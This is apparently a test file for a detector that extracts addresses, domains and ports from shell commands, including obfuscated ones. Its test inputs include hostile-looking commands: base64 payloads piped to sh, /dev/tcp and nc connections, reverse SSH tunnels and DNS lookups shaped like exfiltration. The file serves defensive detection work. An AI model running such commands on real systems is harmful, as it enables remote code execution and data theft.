import { describe, expect, it } from 'vitest';
import { findMentions } from '../../../src/core/network/decode-text.ts';

const encode = (text: string): string => Buffer.from(text).toString('base64');

describe('addresses and names in a command', () => {
  it.each([
    ['stand literally', 'curl http://203.0.113.77:8080/x', '203.0.113.77', 'literal'],
    ['are domains', 'ssh ops@relay.example -p 443', 'relay.example', 'literal'],
    ['hide in base64', `echo ${encode('curl http://203.0.113.140/up')} | base64 -d | sh`, '203.0.113.140', 'base64'],
    [
      'hide in base64 twice',
      `echo ${encode(encode('curl http://203.0.113.140/upload/settings'))}`,
      '203.0.113.140',
      'base64',
    ],
    ['hide in hex', `echo ${Buffer.from('nc 203.0.113.9 53').toString('hex')} | xxd -r -p`, '203.0.113.9', 'hex'],
    [
      'hide in \\x escapes',
      `printf '${[...'203.0.113.9'].map((c) => `\\x${c.charCodeAt(0).toString(16)}`).join('')}'`,
      '203.0.113.9',
      'hex',
    ],
    ['hide in URL escapes', 'curl http%3A%2F%2Fpool%2Eexample%2Fx', 'pool.example', 'url'],
    ['are decimal numbers', 'curl http://3405803853/', '203.0.113.77', 'decimal-ip'],
    ['are hex numbers', 'curl http://0xCB00714D/', '203.0.113.77', 'hex-ip'],
    ['are octal quads', 'ping 0313.00.0161.0115', '203.0.113.77', 'octal-ip'],
    ['are put together from variables', 'H=203.0.113; curl http://$H.77/', '203.0.113.77', 'variable'],
    ['have labels from loops', 'dig $l.$i.9491.t.relay.example', '9491.t.relay.example', 'variable'],
    ['have a label from a brace', `dig \${x}.t.relay.example`, 't.relay.example', 'variable'],
    ['have a label from a command', 'dig $(base32 f).t.relay.example', 't.relay.example', 'variable'],
    ['have a label from a template', `lookup(f'{part}.t.relay.example')`, 't.relay.example', 'variable'],
  ])('%s', (_, command, value, encoding) => {
    expect(findMentions(command)).toContainEqual(expect.objectContaining({ value, encoding }));
  });

  it.each<[string, readonly number[] | undefined]>([
    ['curl http://203.0.113.9:8080/x', [8080]],
    ['nc -z -w1 203.0.113.9 22 80 2>&1', [22, 80]],
    ["s.connect(('203.0.113.9', 3333))", [3333]],
    ['bash -c "</dev/tcp/203.0.113.9/4444"', [4444]],
    ['curl 203.0.113.9:80; curl 203.0.113.9:81', [80, 81]],
    [`echo ${encode('curl http://203.0.113.9:8000/c')} | base64 -d | sh`, [8000]],
    ['curl 203.0.113.9:80; fping 203.0.113.9', undefined],
    ['fping 203.0.113.9; curl 203.0.113.9:80', undefined],
    ['curl 203.0.113.9:80; ping 203.0.113.9', [80, 0]],
    ['ping -n -c 1 -W1 203.0.113.9', [0]],
    ['ping -I eth0 203.0.113.9 >/dev/null', [0]],
    ['ping gate.example; curl 203.0.113.9', undefined],
    ['ping -c1 gate.example && nc -z 203.0.113.9 22', [22]],
    ['dig +short a.example @203.0.113.9', [53]],
    ['dig @203.0.113.9 a.example', [53]],
    ['dig -p 5353 @203.0.113.9 a.example', undefined],
    ['dig @203.0.113.9 -p 5353 a.example', undefined],
    ['dig a.example; login ops @203.0.113.9', undefined],
    ['curl 203.0.113.9 2>/dev/null', undefined],
    ['curl 203.0.113.9/8080', undefined],
    ['curl http://203.0.113.9 2>/dev/null', [80, 443]],
    ['curl http://203.0.113.9/8080', [80, 443]],
    ["get('http://u:p@203.0.113.9')", [80, 443]],
    ['curl https://203.0.113.9?a=1', [443]],
    ['curl https://203.0.113.9:8443', [8443]],
    ["get('http://203.0.113.9' + port)", undefined],
    [`get(f'http://203.0.113.9{port}')`, undefined],
    ['curl ftp://203.0.113.9/', undefined],
    ['curl -x http://203.0.113.9 http://192.0.2.1/', undefined],
    ['http_proxy=http://203.0.113.9 wget x', undefined],
    ['curl wss://203.0.113.9/feed', [443]],
    ['git clone ssh://git@203.0.113.9/a.git', [22]],
    ['redis-cli -u redis://:pw@203.0.113.9', [6379]],
    ['ssh -N -f -R 2222:localhost:22 ops@203.0.113.9', [22]],
    ['(ssh -fN 203.0.113.9)', [22]],
    ['cd /; /usr/bin/ssh 203.0.113.9 uptime', [22]],
    ['sh -c "ssh -i k root@203.0.113.9"', [22]],
    ['ssh -o StrictHostKeyChecking=no -p 2200 ops@203.0.113.9', [2200]],
    ['ssh -Np2200 ops@203.0.113.9', [2200]],
    ["ssh -o 'Port 2200' ops@203.0.113.9", [2200]],
    ['ssh -oPort=2200 ops@203.0.113.9', [2200]],
    ['sftp -P 2200 ops@203.0.113.9', [2200]],
    ['scp -r -P 2200 a.tgz ops@203.0.113.9:/tmp', [2200]],
    ['scp a.tgz 203.0.113.9:', [22]],
    ['ssh -J jump.example ops@203.0.113.9', undefined],
    ['ssh -F c ops@203.0.113.9', undefined],
    ['ssh -o ProxyCommand="nc %h 443" ops@203.0.113.9', undefined],
    ['ssh ops@203.0.113.9 -p 2200', undefined],
    ['ssh gate.example curl 203.0.113.9', undefined],
    ["ssh gate.example 'curl 203.0.113.9'", undefined],
    ['ssh -D 1080 gate.example; curl 203.0.113.9', undefined],
    ['run-ssh 203.0.113.9', undefined],
    ['scp a.tgz 203.0.113.9', undefined],
    ['nmap -sT 203.0.113.9 203.0.113.10-12', undefined],
    ['nc 203.0.113.9 20-30', undefined],
  ])('have their ports with them: %s', (command, ports) => {
    expect(findMentions(command).find(({ value }) => value === '203.0.113.9')?.ports).toEqual(ports);
  });

  it.each<[string, readonly number[] | undefined]>([
    ['curl http://relay.example/x', [80, 443]],
    ['python3 xm.py relay.example:3333', [3333]],
    ['curl relay.example', undefined],
    ['dig +short +time=2 relay.example', [53]],
    ['dig -p 5353 relay.example', undefined],
    ['getent ahostsv4 relay.example', [53]],
    ['for h in a b; do host relay.example; done', [53]],
    ['run --on host relay.example', undefined],
    ['nslookup relay.example; curl relay.example', undefined],
    ['curl http://relay.example/; dig relay.example', [80, 443, 53]],
    ['curl http://relay.example/; curl relay.example', undefined],
  ])('of a name have their ports with them: %s', (command, ports) => {
    expect(findMentions(command).find(({ value }) => value === 'relay.example')?.ports).toEqual(ports);
  });

  it('of a name whose first labels are made at run time have their ports with them', () => {
    const asked = findMentions('dig +short $l.$i.t.relay.example; curl $x.b.example');
    expect(asked.map(({ value, ports }) => [value, ports])).toEqual([
      ['t.relay.example', [53]],
      ['b.example', undefined],
    ]);
  });

  it.each<[string, string | undefined, (readonly number[])?]>([
    ['curl http://[2001:db8::9]:8080/x', '2001:db8::9', [8080]],
    ['curl http://[2001:DB8:0:0:0:0:0:9]/x', '2001:db8::9', [80, 443]],
    ['nc -6 2001:db8:1:2:a00:27ff:fe4e:66a1 22', '2001:db8:1:2:a00:27ff:fe4e:66a1', [22]],
    ["s.connect(('2001:db8::9', 3333))", '2001:db8::9', [3333]],
    ['ping 64:ff9b::cb00:7109', '64:ff9b::cb00:7109', [0]],
    ['print(x[::2], y[10::2], std::dead::beef)', undefined],
    ['date +2026:11:23', undefined],
    ['ip link set eth0 address 02:00:00:00:00:06', undefined],
  ])('are of version 6: %s', (command, value, ports) => {
    const found = findMentions(command).filter(({ kind }) => kind === 'ip');
    expect(found.map((mention) => [mention.value, mention.ports])).toEqual(value === undefined ? [] : [[value, ports]]);
  });

  it('are not versions, file names or arithmetic', () => {
    expect(findMentions('python3 setup.py --version 1.2.3.4.5 && cat notes.md main.c 999.1.1.1')).toEqual([]);
  });
});
